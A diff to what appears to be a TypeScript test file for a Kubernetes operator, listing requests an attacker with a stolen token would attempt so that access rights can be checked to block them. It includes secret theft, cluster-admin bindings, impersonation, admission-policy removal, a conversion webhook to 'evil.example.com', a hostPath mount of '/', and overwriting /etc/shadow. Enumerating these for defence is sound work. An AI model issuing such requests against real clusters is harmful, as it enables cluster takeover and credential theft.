@@ -1,18 +1,11 @@
 /** What somebody tries with a stolen token. */
 
 import { meta } from '../support/meta.ts';
-import {
-  type At,
-  type Attack,
-  applied,
-  changed,
-  made,
-  posted,
-  read,
-  reallyMade,
-  removed,
-} from './rights-requests.ts';
+import { type Attack, applied, at, changed, made, read, reallyMade, removed } from './rights-requests.ts';
 
+const RBAC = 'rbac.authorization.k8s.io/v1';
+const MACHINES = 'machineconfiguration.openshift.io/v1';
+const ALL = [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }];
 const thief = { kind: 'ServiceAccount', name: 'thief', namespace: 'default' };
 
 /** Names of objects of ours that stand in the cluster: who may write one of them tries to. */
@@ -36,7 +29,6 @@ export const NAMESPACES: readonly string[] = [
 export const FOREIGN = 'of-others';
 
 function ofNamespace(namespace: string): readonly Attack[] {
-  const secret = (name: string): At => ({ resource: 'secrets', namespace, name });
   const token = {
     ...meta('v1 Secret', {
       name: 'thief',
@@ -60,118 +52,61 @@ function ofNamespace(namespace: string): readonly Attack[] {
   const template = { metadata: { labels: { a: 'b' } }, spec: pod };
   const spec = { selector: { matchLabels: { a: 'b' } }, template };
   const job = { template: { spec: { ...pod, restartPolicy: 'Never' } } };
-  const apps = (kind: string, resource: string): Attack =>
-    made(
-      { group: 'apps/v1', resource, namespace },
-      {
-        apiVersion: 'apps/v1',
-        kind,
-        metadata: { name: 'thief', namespace },
-        spec,
-      },
-    );
+  const whole = (kind: string) => meta(kind, { name: 'thief', namespace });
   return [
-    read('get', secret(FOREIGN)),
-    read('list', { resource: 'secrets', namespace }),
-    made(secret('thief'), token),
-    applied(secret('thief'), token),
-    changed(secret(FOREIGN), { data: null }),
-    removed(secret(FOREIGN)),
+    read('get', at('secrets', namespace, FOREIGN)),
+    read('list', at('secrets', namespace)),
+    made(at('secrets', namespace), token),
+    applied(at('secrets', namespace, 'thief'), token),
+    changed(at('secrets', namespace, FOREIGN), { data: null }),
+    removed(at('secrets', namespace, FOREIGN)),
     // Not as a dry run, which is what the one account that makes pods may do.
-    reallyMade(
-      { resource: 'pods', namespace },
-      { ...meta('v1 Pod', { name: 'thief', namespace }), spec: pod },
+    reallyMade(at('pods', namespace), { ...whole('v1 Pod'), spec: pod }),
+    ...['Deployment', 'DaemonSet', 'StatefulSet'].map((kind) =>
+      made(at(`apps/v1 ${kind.toLowerCase()}s`, namespace), { ...whole(`apps/v1 ${kind}`), spec }),
     ),
-    apps('Deployment', 'deployments'),
-    apps('DaemonSet', 'daemonsets'),
-    apps('StatefulSet', 'statefulsets'),
-    made(
-      { group: 'batch/v1', resource: 'jobs', namespace },
-      { ...meta('batch/v1 Job', { name: 'thief', namespace }), spec: job },
-    ),
-    made(
-      { group: 'batch/v1', resource: 'cronjobs', namespace },
-      {
-        ...meta('batch/v1 CronJob', { name: 'thief', namespace }),
-        spec: { schedule: '* * * * *', jobTemplate: { spec: job } },
-      },
-    ),
+    made(at('batch/v1 jobs', namespace), { ...whole('batch/v1 Job'), spec: job }),
+    made(at('batch/v1 cronjobs', namespace), {
+      ...whole('batch/v1 CronJob'),
+      spec: { schedule: '* * * * *', jobTemplate: { spec: job } },
+    }),
     changed(
-      { resource: 'namespaces', namespace, name: namespace },
-      {
-        metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } },
-      },
+      { ...at('namespaces', undefined, namespace), namespace },
+      { metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } } },
     ),
-    posted(
-      { resource: 'serviceaccounts/token', namespace, name: 'default' },
-      {
-        apiVersion: 'authentication.k8s.io/v1',
-        kind: 'TokenRequest',
-        spec: {},
-      },
-    ),
-    changed(
-      { resource: 'serviceaccounts', namespace, name: 'default' },
-      {
-        secrets: [{ name: 'thief' }],
-      },
-    ),
-    read('get', { resource: 'pods/exec', namespace, name: 'a' }),
-    read('get', { resource: 'pods/portforward', namespace, name: 'a' }),
-    changed({ resource: 'pods/ephemeralcontainers', namespace, name: 'a' }, {}),
-    posted(
-      { resource: 'pods/eviction', namespace, name: 'a' },
-      meta('policy/v1 Eviction', { name: 'a', namespace }),
-    ),
-    removed({ resource: 'pods', namespace, name: 'a' }),
-    applied(
-      { resource: 'configmaps', namespace, name: 'aws-auth' },
-      meta('v1 ConfigMap', { name: 'aws-auth', namespace }),
-    ),
+    made(at('serviceaccounts/token', namespace, 'default'), {
+      apiVersion: 'authentication.k8s.io/v1',
+      kind: 'TokenRequest',
+      spec: {},
+    }),
+    changed(at('serviceaccounts', namespace, 'default'), { secrets: [{ name: 'thief' }] }),
+    read('get', at('pods/exec', namespace, 'a')),
+    read('get', at('pods/portforward', namespace, 'a')),
+    changed(at('pods/ephemeralcontainers', namespace, 'a'), {}),
+    made(at('pods/eviction', namespace, 'a'), meta('policy/v1 Eviction', { name: 'a', namespace })),
+    removed(at('pods', namespace, 'a')),
+    applied(at('configmaps', namespace, 'aws-auth'), meta('v1 ConfigMap', { name: 'aws-auth', namespace })),
     ...['cluster-admin', 'admin', 'edit'].map((role) => bound(namespace, 'thief', role)),
-    made(
-      { group: 'rbac.authorization.k8s.io/v1', resource: 'roles', namespace },
-      {
-        ...meta('rbac.authorization.k8s.io/v1 Role', { name: 'thief', namespace }),
-        rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }],
-      },
-    ),
+    made(at(`${RBAC} roles`, namespace), { ...whole(`${RBAC} Role`), rules: ALL }),
   ];
 }
 
 function bound(namespace: string | undefined, name: string, role: string): Attack {
-  const resource = namespace === undefined ? 'clusterrolebindings' : 'rolebindings';
-  const at: At = {
-    group: 'rbac.authorization.k8s.io/v1',
-    resource,
-    name,
-    ...(namespace === undefined ? {} : { namespace }),
-  };
-  return applied(at, {
-    apiVersion: 'rbac.authorization.k8s.io/v1',
-    kind: namespace === undefined ? 'ClusterRoleBinding' : 'RoleBinding',
-    metadata: { name, ...(namespace === undefined ? {} : { namespace }) },
+  const kind = namespace === undefined ? 'ClusterRoleBinding' : 'RoleBinding';
+  return applied(at(`${RBAC} ${kind.toLowerCase()}s`, namespace, name), {
+    apiVersion: RBAC,
+    kind,
+    metadata: { name, namespace },
     roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: role },
     subjects: [thief],
   });
 }
 
-const ALL = [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }];
-
-/** Who has all rights, and who has many. */
-const IMPERSONATED: readonly (Pick<Attack, 'resource' | 'namespace' | 'name'> & { readonly as: string })[] = [
-  { resource: 'users', name: 'system:kube-controller-manager', as: 'system:kube-controller-manager' },
-  ...(
-    [
-      ['kube-system', 'clusterrole-aggregation-controller'],
-      ['pullwright-system', 'pullwright-reconciler'],
-    ] as const
-  ).map(([namespace, name]) => ({
-    resource: 'serviceaccounts',
-    namespace,
-    name,
-    as: `system:serviceaccount:${namespace}:${name}`,
-  })),
+/** Those that have all rights, and many. */
+const IMPERSONATED: readonly (readonly [kind: string, namespace: string | undefined, name: string])[] = [
+  ['users', undefined, 'system:kube-controller-manager'],
+  ['serviceaccounts', 'kube-system', 'clusterrole-aggregation-controller'],
+  ['serviceaccounts', 'pullwright-system', 'pullwright-reconciler'],
 ];
 
 /** Secrets that accounts of ours read by name. */
@@ -194,119 +129,87 @@ const BINDINGS = [
 
 function ofCluster({ policies, policyBindings, roles }: Present): readonly Attack[] {
   const admission = 'admissionregistration.k8s.io/v1';
-  const guards = [
-    ...policies.map((name) => ['validatingadmissionpolicies', name, { spec: { validations: [] } }] as const),
-    ...policyBindings.map(
-      (name) =>
-        ['validatingadmissionpolicybindings', name, { spec: { validationActions: ['Audit'] } }] as const,
-    ),
-  ].flatMap(([resource, name, body]) => [
-    removed({ group: admission, resource, name }),
-    changed({ group: admission, resource, name }, body),
-  ]);
+  const guard = (resource: string, name: string, spec: object): readonly Attack[] => [
+    removed(at(`${admission} ${resource}`, undefined, name)),
+    changed(at(`${admission} ${resource}`, undefined, name), { spec }),
+  ];
+  const webhook = { clientConfig: { url: 'https://evil.example.com/' }, conversionReviewVersions: ['v1'] };
+  const file = { path: '/etc/shadow', contents: { source: 'data:,' } };
   return [
-    ...guards,
+    ...policies.flatMap((name) => guard('validatingadmissionpolicies', name, { validations: [] })),
+    ...policyBindings.flatMap((name) =>
+      guard('validatingadmissionpolicybindings', name, { validationActions: ['Audit'] }),
+    ),
     ...['cluster-admin', 'admin', 'edit', 'system:controller:clusterrole-aggregation-controller'].map(
       (role) => bound(undefined, 'thief', role),
     ),
     ...[...roles, 'thief'].map((name) =>
-      applied(
-        { group: 'rbac.authorization.k8s.io/v1', resource: 'clusterroles', name },
-        { ...meta('rbac.authorization.k8s.io/v1 ClusterRole', { name }), rules: ALL },
-      ),
+      applied(at(`${RBAC} clusterroles`, undefined, name), {
+        ...meta(`${RBAC} ClusterRole`, { name }),
+        rules: ALL,
+      }),
     ),
     ...IMPERSONATED.map(
-      ({ as, ...at }): Attack => ({
-        ...at,
+      ([kind, namespace, name]): Attack => ({
+        ...at(kind, namespace, name),
         verb: 'impersonate',
         method: 'GET',
         path: '/api/v1/secrets',
-        as,
+        as: namespace === undefined ? name : `system:serviceaccount:${namespace}:${name}`,
       }),
     ),
-    ...NAMED_SECRETS.map(([namespace, name]) => read('get', { resource: 'secrets', namespace, name })),
+    ...NAMED_SECRETS.map(([namespace, name]) => read('get', at('secrets', namespace, name))),
     ...BINDINGS.map(([namespace, name]) => bound(namespace, name, 'cluster-admin')),
     ...['mutatingadmissionpolicies', 'mutatingadmissionpolicybindings'].map((resource) =>
-      removed({ group: admission, resource, name: 'pullwright-pull-secret-injection' }),
+      removed(at(`${admission} ${resource}`, undefined, 'pullwright-pull-secret-injection')),
     ),
-    changed({ group: admission, resource: 'mutatingwebhookconfigurations', name: 'pullwright-webhook' }, {}),
+    changed(at(`${admission} mutatingwebhookconfigurations`, undefined, 'pullwright-webhook'), {}),
     made(
-      { group: admission, resource: 'mutatingwebhookconfigurations' },
+      at(`${admission} mutatingwebhookconfigurations`),
       meta(`${admission} MutatingWebhookConfiguration`, { name: 'thief' }),
     ),
     made(
-      { group: admission, resource: 'validatingadmissionpolicies' },
+      at(`${admission} validatingadmissionpolicies`),
       meta(`${admission} ValidatingAdmissionPolicy`, { name: 'thief' }),
     ),
+    changed(at('certificates.k8s.io/v1 certificatesigningrequests/approval', undefined, 'thief'), {}),
+    made(at('apiregistration.k8s.io/v1 apiservices'), {}),
     changed(
-      { group: 'certificates.k8s.io/v1', resource: 'certificatesigningrequests/approval', name: 'thief' },
-      {},
+      at('apiextensions.k8s.io/v1 customresourcedefinitions', undefined, 'pullstatuses.pullwright.dev'),
+      { spec: { conversion: { strategy: 'Webhook', webhook } } },
     ),
-    made({ group: 'apiregistration.k8s.io/v1', resource: 'apiservices' }, {}),
-    changed(
-      {
-        group: 'apiextensions.k8s.io/v1',
-        resource: 'customresourcedefinitions',
-        name: 'pullstatuses.pullwright.dev',
-      },
-      {
-        spec: {
-          conversion: {
-            strategy: 'Webhook',
-            webhook: {
-              clientConfig: { url: 'https://evil.example.com/' },
-              conversionReviewVersions: ['v1'],
-            },
-          },
-        },
-      },
-    ),
-    made(
-      { resource: 'persistentvolumes' },
-      {
-        ...meta('v1 PersistentVolume', { name: 'thief' }),
-        spec: { capacity: { storage: '1Gi' }, accessModes: ['ReadWriteOnce'], hostPath: { path: '/' } },
-      },
-    ),
-    read('get', { resource: 'nodes/proxy', name: 'n1' }),
-    changed({ resource: 'nodes', name: 'n1' }, { spec: { unschedulable: true } }),
-    changed({ resource: 'nodes/status', name: 'n1' }, { status: {} }),
-    removed({ resource: 'nodes', name: 'n1' }),
+    made(at('persistentvolumes'), {
+      ...meta('v1 PersistentVolume', { name: 'thief' }),
+      spec: { capacity: { storage: '1Gi' }, accessModes: ['ReadWriteOnce'], hostPath: { path: '/' } },
+    }),
+    read('get', at('nodes/proxy', undefined, 'n1')),
+    changed(at('nodes', undefined, 'n1'), { spec: { unschedulable: true } }),
+    changed(at('nodes/status', undefined, 'n1'), { status: {} }),
+    removed(at('nodes', undefined, 'n1')),
     ...['99-thief', '97-worker-generated-credentialproviderconfig'].map((name) =>
-      applied(
-        { group: 'machineconfiguration.openshift.io/v1', resource: 'machineconfigs', name },
-        {
-          ...meta('machineconfiguration.openshift.io/v1 MachineConfig', {
-            name,
-            labels: { 'machineconfiguration.openshift.io/role': 'worker' },
-          }),
-          spec: {
-            config: {
-              ignition: { version: '3.5.0' },
-              storage: { files: [{ path: '/etc/shadow', contents: { source: 'data:,' } }] },
-            },
-          },
-        },
-      ),
+      applied(at(`${MACHINES} machineconfigs`, undefined, name), {
+        ...meta(`${MACHINES} MachineConfig`, {
+          name,
+          labels: { 'machineconfiguration.openshift.io/role': 'worker' },
+        }),
+        spec: { config: { ignition: { version: '3.5.0' }, storage: { files: [file] } } },
+      }),
     ),
     // HyperShift brings the MachineConfig in such ConfigMaps to the nodes of a hosted cluster.
-    ...(
-      [
-        ['clusters', 'guest-crio-credential-provider'],
-        ['clusters-guest', 'registry-overrides'],
-      ] as const
-    ).map(([namespace, name]) =>
-      applied(
-        { resource: 'configmaps', namespace, name },
-        {
-          apiVersion: 'v1',
-          kind: 'ConfigMap',
-          metadata: { name, namespace, labels: { 'hypershift.openshift.io/core-ignition-config': 'true' } },
-          data: { config: 'kind: MachineConfig' },
-        },
-      ),
+    ...[
+      ['clusters', 'guest-crio-credential-provider'],
+      ['clusters-guest', 'registry-overrides'],
+    ].map(([namespace = '', name = '']) =>
+      applied(at('configmaps', namespace, name), {
+        ...meta('v1 ConfigMap', {
+          name,
+          namespace,
+          labels: { 'hypershift.openshift.io/core-ignition-config': 'true' },
+        }),
+        data: { config: 'kind: MachineConfig' },
+      }),
     ),
-    read('list', { resource: 'secrets' }),
+    read('list', at('secrets')),
   ];
 }
 
